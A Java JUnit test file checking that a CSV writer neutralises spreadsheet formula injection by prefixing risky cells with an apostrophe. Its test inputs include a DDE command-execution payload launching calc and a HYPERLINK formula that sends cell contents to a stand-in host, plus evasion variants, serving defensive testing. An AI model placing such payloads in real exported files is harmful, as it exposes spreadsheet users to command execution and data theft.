package org.baoxue.api;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.stream.Stream;

class CsvTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://elsewhere.example/\"&A1)",
                "+1",
                "-2+cmd|' /C calc'!A0",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                " =1+1",
                "\u00a0=1",
                "\u200b=1",
                "\uFEFF=1"
            })
    void writesNoCellThatASpreadsheetTakesForAFormula(String formula) throws IOException {
        assertThat(written(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"镇", "a=b", "3-5岁", "", "'", "x\",\r\n=1+1,\"", "没有 @ 的"})
    void writesEveryOtherTextAsItIsIntoOneCell(String text) throws IOException {
        assertThat(written(text)).isEqualTo(text);
    }

    @Test
    void writesANumberAsItIs() {
        assertThat(Csv.guarded(-2)).isEqualTo(-2);
    }

    /// The one cell between two others, as a spreadsheet reads it.
    private static String written(String cell) throws IOException {
        var text = new StringBuilder();
        Csv.write(List.of("a", "b", "c"), Stream.of(List.of("1", cell, "3")), text);
        assertThat(text).startsWith("\uFEFFa,b,c\r\n");
        try (var read = CSVFormat.EXCEL.parse(new StringReader(text.toString()))) {
            List<CSVRecord> rows = read.getRecords();
            assertThat(rows).hasSize(2);
            assertThat(rows.getLast().size()).isEqualTo(3);
            return rows.getLast().get(1);
        }
    }
}
